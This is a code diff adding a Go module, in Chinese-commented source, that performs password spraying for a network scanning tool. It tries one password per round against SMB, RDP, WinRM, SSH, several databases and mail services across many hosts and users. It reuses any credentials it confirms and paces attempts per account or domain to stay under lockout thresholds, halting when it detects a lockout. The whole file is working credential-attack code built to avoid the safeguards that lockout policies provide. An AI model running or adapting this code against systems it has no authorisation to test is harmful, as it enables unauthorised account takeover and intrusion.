@@ -0,0 +1,355 @@
+package gopocs
+
+import (
+	"dddd/structs"
+	"dddd/utils"
+	"fmt"
+	"github.com/projectdiscovery/gologger"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+)
+
+// 密码喷洒：每轮只尝试一个密码，覆盖所有主机与用户，按账号限制窗口期内的尝试次数，
+// 发现账号锁定后立即停止
+
+type sprayPlugin struct {
+	Service string
+	Dict    func() string
+	Keys    []string
+	Conn    func(*structs.HostInfo, string, string) (bool, error)
+	// Windows 账号由同一主机上的SMB/RDP/WinRM共享，主机加入域或 -spray-domain 时视为域账号
+	Windows bool
+}
+
+var sprayPlugins = map[string]sprayPlugin{
+	"SMB-Crack":        {"SMB", func() string { return smbUserPasswdDict }, nil, doWithTimeOut, true},
+	"RDP-Crack":        {"RDP", func() string { return rdpUserPasswdDict }, nil, rdpSprayConn, true},
+	"WinRM-Crack":      {"WinRM", func() string { return smbUserPasswdDict }, nil, WinRMConn, true},
+	"SSH-Crack":        {"SSH", func() string { return sshUserPasswdDict }, []string{"ssh"}, SshConn, false},
+	"Mysql-Crack":      {"Mysql", func() string { return mysqlUserPasswdDict }, []string{"mysql"}, MysqlConn, false},
+	"Mssql-Crack":      {"Mssql", func() string { return mssqlUserPasswdDict }, []string{"mssql", "sqlserver"}, MssqlConn, false},
+	"Oracle-Crack":     {"Oracle", func() string { return oracleUserPasswdDict }, []string{"oracle"}, OracleConn, false},
+	"PostgreSQL-Crack": {"PostgreSQL", func() string { return postgreSQLUserPasswdDict }, []string{"Postgres"}, PostgresConn, false},
+	"SMTP-Crack":       {"SMTP", func() string { return mailUserPasswdDict }, []string{"mail"}, SmtpConn, false},
+	"POP3-Crack":       {"POP3", func() string { return mailUserPasswdDict }, []string{"mail"}, Pop3Conn, false},
+	"IMAP-Crack":       {"IMAP", func() string { return mailUserPasswdDict }, []string{"mail"}, ImapConn, false},
+}
+
+// 账号锁定时服务端返回的错误信息
+var lockoutErrs = []string{
+	"STATUS_ACCOUNT_LOCKED_OUT",
+	"locked because too many invalid logon attempts",
+	"account is currently locked out",
+	"account has been locked",
+	"account is locked",
+	"ORA-28000",
+	"consecutive failed logins",
+	"blocked because of many connection errors",
+}
+
+func isLockoutErr(err error) bool {
+	if err == nil {
+		return false
+	}
+	for _, key := range lockoutErrs {
+		if strings.Contains(strings.ToLower(err.Error()), strings.ToLower(key)) {
+			return true
+		}
+	}
+	return false
+}
+
+func rdpSprayConn(info *structs.HostInfo, user string, pass string) (bool, error) {
+	port, _ := strconv.Atoi(info.Ports)
+	flag, err := RdpConn(info.Host, "", user, pass, port, 6)
+	if flag && err == nil {
+		rdpLoginResult(info.Host, "", port, user, pass, info.CredReuse)
+	}
+	return flag, err
+}
+
+type sprayTarget struct {
+	Name   string
+	Plugin sprayPlugin
+	Info   structs.HostInfo
+	// Passwords 按原始字典顺序排列的密码，每轮取一个
+	Passwords []string
+	Users     map[string][]string
+	Done      bool
+	// reuseAfter 已加入的复用凭据的确认时间，之后确认的凭据在下一轮插入
+	reuseAfter time.Time
+}
+
+type sprayJob struct {
+	Target  *sprayTarget
+	User    string
+	Pass    string
+	Account string
+}
+
+var sprayTargets []*sprayTarget
+
+// 账号 => 每次尝试的时间
+var sprayAttempts = make(map[string][]time.Time)
+var sprayAttemptsTotal = make(map[string]int)
+var sprayLock sync.Mutex
+
+// sprayEnabled 喷洒模式只接管可能触发账号锁定的插件
+func sprayEnabled(scantype string) bool {
+	if !structs.GlobalConfig.Spray || structs.GlobalConfig.NoServiceBruteForce {
+		return false
+	}
+	_, ok := sprayPlugins[scantype]
+	return ok
+}
+
+// addSprayTarget 喷洒模式下爆破任务不立即执行，由 sprayScheduler 统一调度
+func addSprayTarget(scantype string, info structs.HostInfo) {
+	sprayTargets = append(sprayTargets, &sprayTarget{Name: scantype, Plugin: sprayPlugins[scantype], Info: info})
+}
+
+// sprayWindowsDomain NTLM信息收集得到的主机所属域，未知或与主机名相同(工作组)时为空
+func sprayWindowsDomain(host string) string {
+	structs.GlobalNTLMInfoMapLock.Lock()
+	info, ok := structs.GlobalNTLMInfoMap[host]
+	structs.GlobalNTLMInfoMapLock.Unlock()
+	if !ok {
+		return ""
+	}
+	domain := strings.ToLower(info.NetBIOSDomain)
+	if domain == "" || domain == strings.ToLower(info.NetBIOSComputer) {
+		return ""
+	}
+	return domain
+}
+
+// sprayAccount 计算尝试次数的账号。Windows 账号优先按主机所属域共享，加入同一个域的主机共用域账号的锁定策略
+func sprayAccount(t *sprayTarget, user string) string {
+	user = strings.ToLower(user)
+	if t.Plugin.Windows {
+		if structs.GlobalConfig.SprayDomain {
+			return "domain\\" + user
+		}
+		if domain := sprayWindowsDomain(t.Info.Host); domain != "" {
+			return domain + "\\" + user
+		}
+		return t.Info.Host + "\\" + user
+	}
+	return fmt.Sprintf("%s://%s:%s/%s", t.Plugin.Service, t.Info.Host, t.Info.Ports, user)
+}
+
+// sprayWait 账号在窗口期内的尝试次数已满时，返回还需要等待的时间
+func sprayWait(account string, now time.Time) time.Duration {
+	window := time.Duration(structs.GlobalConfig.SprayWindow) * time.Minute
+	var recent []time.Time
+	for _, t := range sprayAttempts[account] {
+		if now.Sub(t) < window {
+			recent = append(recent, t)
+		}
+	}
+	sprayAttempts[account] = recent
+	if len(recent) < structs.GlobalConfig.SprayAttempts {
+		return 0
+	}
+	return window - now.Sub(recent[0])
+}
+
+// sprayPrepare 生成每个目标的密码轮次，与普通爆破一致使用目标关键字与已确认的凭据
+func sprayPrepare() {
+	for _, t := range sprayTargets {
+		t.Users = make(map[string][]string)
+		t.reuseAfter = time.Now()
+		if t.Info.Host != "" {
+			t.Info.InfoStr = removeDuplicateKeepOrder(append(t.Info.InfoStr, targetKeywords(t.Info.Host)...))
+		}
+		for _, up := range sortUserPassword(&t.Info, t.Plugin.Dict(), t.Plugin.Keys) {
+			if _, ok := t.Users[up.Password]; !ok {
+				t.Passwords = append(t.Passwords, up.Password)
+			}
+			t.Users[up.Password] = append(t.Users[up.Password], up.UserName)
+		}
+	}
+}
+
+// sprayReuse 喷洒过程中新确认的凭据插入到每个目标的下一轮优先尝试
+func sprayReuse(round int) {
+	for _, t := range sprayTargets {
+		if t.Done {
+			continue
+		}
+		now := time.Now()
+		candidates := reuseCandidates(&t.Info, t.reuseAfter)
+		t.reuseAfter = now
+		for i := len(candidates) - 1; i >= 0; i-- {
+			if strings.HasPrefix(candidates[i], " : ") {
+				continue
+			}
+			user, pass := splitUserPass(candidates[i])
+			sprayInsert(t, round, user, pass)
+		}
+	}
+}
+
+// sprayInsert 将凭据插入到第 round 轮，密码已在之后的轮次中时只追加用户
+func sprayInsert(t *sprayTarget, round int, user, pass string) {
+	if round > len(t.Passwords) {
+		round = len(t.Passwords)
+	}
+	if utils.GetItemInArray(t.Users[pass], user) >= 0 {
+		return
+	}
+	if utils.GetItemInArray(t.Passwords[round:], pass) >= 0 {
+		t.Users[pass] = append(t.Users[pass], user)
+		return
+	}
+	// 密码在之前的轮次中已尝试过，新的一轮只尝试这个用户
+	t.Users[pass] = []string{user}
+	t.Passwords = append(t.Passwords[:round], append([]string{pass}, t.Passwords[round:]...)...)
+}
+
+// sprayScheduler 按轮次执行喷洒，第N轮尝试每个目标的第N个密码
+func sprayScheduler() {
+	if len(sprayTargets) == 0 {
+		return
+	}
+	sprayPrepare()
+	gologger.Info().Msgf("密码喷洒: %d 个目标，每个账号 %d 分钟内最多尝试 %d 次", len(sprayTargets),
+		structs.GlobalConfig.SprayWindow, structs.GlobalConfig.SprayAttempts)
+
+	var lockedOut bool
+	for round := 0; !lockedOut; round++ {
+		sprayReuse(round)
+		var pending []*sprayJob
+		for _, t := range sprayTargets {
+			if t.Done || round >= len(t.Passwords) {
+				continue
+			}
+			pass := t.Passwords[round]
+			for _, user := range t.Users[pass] {
+				pending = append(pending, &sprayJob{Target: t, User: user, Pass: pass, Account: sprayAccount(t, user)})
+			}
+		}
+		if len(pending) == 0 {
+			break
+		}
+		gologger.AuditTimeLogger("[Go] [Spray] round %d, %d attempts", round+1, len(pending))
+
+		for len(pending) > 0 && !lockedOut {
+			// 本批次中每个账号只尝试一次，其余的等待窗口期
+			var batch, deferred []*sprayJob
+			var minWait time.Duration
+			inBatch := make(map[string]bool)
+			now := time.Now()
+			sprayLock.Lock()
+			for _, job := range pending {
+				if job.Target.Done {
+					continue
+				}
+				wait := sprayWait(job.Account, now)
+				if wait > 0 || inBatch[job.Account] {
+					deferred = append(deferred, job)
+					if wait > 0 && (minWait == 0 || wait < minWait) {
+						minWait = wait
+					}
+					continue
+				}
+				inBatch[job.Account] = true
+				// 预占一次，避免批次内超出限制
+				sprayAttempts[job.Account] = append(sprayAttempts[job.Account], now)
+				batch = append(batch, job)
+			}
+			sprayLock.Unlock()
+
+			if len(batch) == 0 {
+				if len(deferred) == 0 {
+					break
+				}
+				gologger.Info().Msgf("密码喷洒: 账号尝试次数已达上限，等待 %v", minWait.Round(time.Second))
+				time.Sleep(minWait)
+				pending = deferred
+				continue
+			}
+
+			lockedOut = sprayRun(batch)
+			pending = deferred
+		}
+
+		if !lockedOut && structs.GlobalConfig.SprayDelay > 0 {
+			time.Sleep(time.Duration(structs.GlobalConfig.SprayDelay) * time.Second)
+		}
+	}
+
+	sprayReport()
+}
+
+// sprayRun 并发执行一批尝试，返回是否发现账号锁定
+func sprayRun(batch []*sprayJob) bool {
+	var wg sync.WaitGroup
+	var lockedOut bool
+	var mutex sync.Mutex
+	ch := make(chan struct{}, structs.GlobalConfig.GoPocThreads)
+
+	for _, job := range batch {
+		ch <- struct{}{}
+		wg.Add(1)
+		go func(job *sprayJob) {
+			defer func() {
+				<-ch
+				wg.Done()
+			}()
+			mutex.Lock()
+			stop := lockedOut || job.Target.Done
+			mutex.Unlock()
+			if stop {
+				return
+			}
+
+			// 预占的时间戳已计入窗口，这里只累计总次数
+			sprayLock.Lock()
+			sprayAttemptsTotal[job.Account]++
+			count := sprayAttemptsTotal[job.Account]
+			sprayLock.Unlock()
+
+			info := job.Target.Info
+			gologger.AuditTimeLogger("[Go] [Spray] [%s] try %s:%v %v %v (account attempts: %d)", job.Target.Plugin.Service, info.Host, info.Ports, job.User, job.Pass, count)
+			flag, err := job.Target.Plugin.Conn(&info, job.User, job.Pass)
+
+			mutex.Lock()
+			defer mutex.Unlock()
+			if flag && err == nil {
+				job.Target.Done = true
+				return
+			}
+			if isLockoutErr(err) {
+				lockedOut = true
+				gologger.Warning().Msgf("密码喷洒: %s://%s:%v 账号 %s 已被锁定，停止喷洒", job.Target.Plugin.Service, info.Host, info.Ports, job.User)
+				gologger.AuditTimeLogger("[Go] [Spray] lockout detected %s:%v %v: %v", info.Host, info.Ports, job.User, err)
+				return
+			}
+			if CheckErrs(err) {
+				job.Target.Done = true
+			}
+		}(job)
+	}
+	wg.Wait()
+	return lockedOut
+}
+
+// sprayReport 在审计日志中记录每个账号的尝试次数
+func sprayReport() {
+	sprayLock.Lock()
+	defer sprayLock.Unlock()
+	var accounts []string
+	for account := range sprayAttemptsTotal {
+		accounts = append(accounts, account)
+	}
+	sort.Strings(accounts)
+	report := ""
+	for _, account := range accounts {
+		report += fmt.Sprintf("%-50s %d\n", account, sprayAttemptsTotal[account])
+	}
+	gologger.AuditTimeLogger("[Go] [Spray] attempts per account:\n%s", report)
+}